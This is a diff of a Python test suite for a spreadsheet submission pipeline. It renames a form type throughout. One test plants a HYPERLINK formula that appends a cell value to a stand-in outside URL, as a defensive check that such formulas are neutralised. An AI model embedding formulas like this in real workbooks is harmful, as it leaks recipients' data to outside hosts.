@@ -15,7 +15,7 @@ from openpyxl.comments import Comment
 from flows.plan.catalogue import Catalogue
 from flows.plan.observation import Reading, Refusal
 from flows.submissions.form.entries import Entry
-from flows.submissions.form.form_spec import Asked
+from flows.submissions.form.form_spec import FormSpec
 from flows.submissions.formats.grid import Broken, Grid
 from flows.submissions.formats.opened import Opened
 from flows.submissions.read_form import open_or_refuse, read, understand
@@ -66,7 +66,7 @@ def loaded(content: bytes) -> Workbook:
 
 
 @pytest.fixture(scope="module")
-def marked(catalogue: Catalogue, form: Asked) -> bytes:
+def marked(catalogue: Catalogue, form: FormSpec) -> bytes:
     return back(catalogue, filled(form, ROWS))
 
 
@@ -117,7 +117,7 @@ def test_the_comment_says_what_was_expected_found_and_to_be_done(marked: bytes) 
     assert sheet["G10"].comment is None
 
 
-def test_the_sender_keeps_his_look_his_notes_and_his_checks(marked: bytes, form: Asked) -> None:
+def test_the_sender_keeps_his_look_his_notes_and_his_checks(marked: bytes, form: FormSpec) -> None:
     before, after = loaded(filled(form, ROWS))["月报"], loaded(marked)["月报"]
     assert after.column_dimensions["B"].width == before.column_dimensions["B"].width
     assert after["A1"].font.name == before["A1"].font.name == "方正小标宋简体"
@@ -142,7 +142,9 @@ def test_computed_cells_still_show_their_results(marked: bytes) -> None:
     assert (shown["J6"].value, shown["J7"].value) == ("与上月累计+本月不符", "可以报送")
 
 
-def test_the_same_file_goes_back_as_the_same_bytes(catalogue: Catalogue, form: Asked, marked: bytes) -> None:
+def test_the_same_file_goes_back_as_the_same_bytes(
+    catalogue: Catalogue, form: FormSpec, marked: bytes
+) -> None:
     assert back(catalogue, filled(form, ROWS)) == marked
 
 
@@ -192,7 +194,7 @@ def test_a_part_of_a_gathered_file_goes_back_alone_and_comes_as_the_countys_own(
 
 @pytest.mark.parametrize("kind", ["xlsx", "xls", "ods"])
 def test_it_is_read_the_same_after_another_program_saved_it(
-    kind: str, marked: bytes, catalogue: Catalogue, form: Asked
+    kind: str, marked: bytes, catalogue: Catalogue, form: FormSpec
 ) -> None:
     original = read(NAME, filled(form, ROWS), catalogue, lambda *_: KNOWN)
     name = NAME.replace("xlsx", kind)
@@ -200,7 +202,7 @@ def test_it_is_read_the_same_after_another_program_saved_it(
 
 
 def test_a_computed_error_is_found_as_it_shows_not_as_its_comment_says(
-    catalogue: Catalogue, form: Asked
+    catalogue: Catalogue, form: FormSpec
 ) -> None:
     """Saved as .ods, the comment stands inside the cell, before what it shows."""
     content = back(catalogue, saved(edited(filled(form), {"F6": "=1/0"}), "xlsx"))
@@ -209,7 +211,7 @@ def test_a_computed_error_is_found_as_it_shows_not_as_its_comment_says(
 
 
 def test_what_is_corrected_in_it_stands_and_the_old_marks_are_gone(
-    catalogue: Catalogue, form: Asked, marked: bytes
+    catalogue: Catalogue, form: FormSpec, marked: bytes
 ) -> None:
     mended = edited(marked, {"F9": 236, "G6": 607})
     reading = understood(read(NAME, mended, catalogue, lambda *_: KNOWN))
@@ -225,7 +227,7 @@ def test_what_is_corrected_in_it_stands_and_the_old_marks_are_gone(
 
 
 def test_a_comment_of_the_senders_own_stays_under_ours_and_alone_when_ours_goes(
-    catalogue: Catalogue, form: Asked
+    catalogue: Catalogue, form: FormSpec
 ) -> None:
     book = loaded(filled(form, ROWS))
     book["月报"]["G6"].comment = Comment("4月漏统", "甲")
@@ -264,7 +266,7 @@ def test_a_file_that_cannot_be_opened_gets_the_receipt_alone(catalogue: Catalogu
     assert any("PDF" in text for text in said)
 
 
-def with_persons(form: Asked, cells: Mapping[str, Entry] = ROWS) -> bytes:
+def with_persons(form: FormSpec, cells: Mapping[str, Entry] = ROWS) -> bytes:
     """A list of persons on a sheet of its own, a comment with a number, a formula over the list."""
     book = loaded(filled(form, cells))
     people = book.create_sheet("花名册")
@@ -277,7 +279,7 @@ def with_persons(form: Asked, cells: Mapping[str, Entry] = ROWS) -> bytes:
     return buffer.getvalue()
 
 
-def test_a_workbook_with_a_list_of_persons_goes_back_without_it(catalogue: Catalogue, form: Asked) -> None:
+def test_a_workbook_with_a_list_of_persons_goes_back_without_it(catalogue: Catalogue, form: FormSpec) -> None:
     content = back(catalogue, with_persons(form))
     with ZipFile(BytesIO(content)) as parts:
         everything = b"".join(parts.read(name) for name in parts.namelist())
@@ -288,7 +290,7 @@ def test_a_workbook_with_a_list_of_persons_goes_back_without_it(catalogue: Catal
 
 
 def test_formulas_that_ask_outside_the_workbook_come_back_as_what_they_showed(
-    catalogue: Catalogue, form: Asked
+    catalogue: Catalogue, form: FormSpec
 ) -> None:
     book = loaded(filled(form, ROWS))
     book["月报"]["I7"] = '=HYPERLINK("http://x/?"&G6,"点我")'
@@ -299,7 +301,7 @@ def test_formulas_that_ask_outside_the_workbook_come_back_as_what_they_showed(
 
 
 def test_a_zero_that_a_formula_gave_confirms_nothing_when_it_comes_back(
-    catalogue: Catalogue, form: Asked
+    catalogue: Catalogue, form: FormSpec
 ) -> None:
     """Also where the formula itself is left out, because it asks outside the workbook."""
     asks_outside = saved(edited(filled(form, ROWS), {"F8": '=N("http://x")', "F7": "=1-1"}), "xlsx")
@@ -319,7 +321,7 @@ def test_a_zero_that_a_formula_gave_confirms_nothing_when_it_comes_back(
     ids=["a range over the sheet", "a link over the sheet"],
 )
 def test_a_range_over_the_whole_sheet_does_not_stall_the_answer(
-    xml: bytes, catalogue: Catalogue, form: Asked
+    xml: bytes, catalogue: Catalogue, form: FormSpec
 ) -> None:
     content = BytesIO()
     with ZipFile(BytesIO(filled(form, ROWS))) as parts, ZipFile(content, "w", ZIP_DEFLATED) as changed:
@@ -333,13 +335,13 @@ def test_a_range_over_the_whole_sheet_does_not_stall_the_answer(
     assert book["月报"]["F9"].comment is not None
 
 
-def test_what_is_larger_than_any_form_gets_the_receipt_alone(catalogue: Catalogue, form: Asked) -> None:
+def test_what_is_larger_than_any_form_gets_the_receipt_alone(catalogue: Catalogue, form: FormSpec) -> None:
     _, given, _ = answered(catalogue, NAME, filled(form, ROWS))
     large = Opened((Grid("月报", [["一"] * 100] * 201),))  # 100 × 201 > 20000
     assert loaded(returned_workbook(b"", large, given)).sheetnames == ["回执"]
 
 
-def test_what_no_workbook_may_hold_is_left_out_of_it(catalogue: Catalogue, form: Asked) -> None:
+def test_what_no_workbook_may_hold_is_left_out_of_it(catalogue: Catalogue, form: FormSpec) -> None:
     reading = understood(read(NAME, filled(form, ROWS), catalogue, lambda *_: KNOWN))
     odd = replace(reading.problems[0], found="\x00\x0b\ud800甲", sheet="月报", cell="A1")
     given = receipt(NAME, SHA256, RECEIVED_AT, replace(reading, problems=(odd,)), catalogue, DEADLINES)
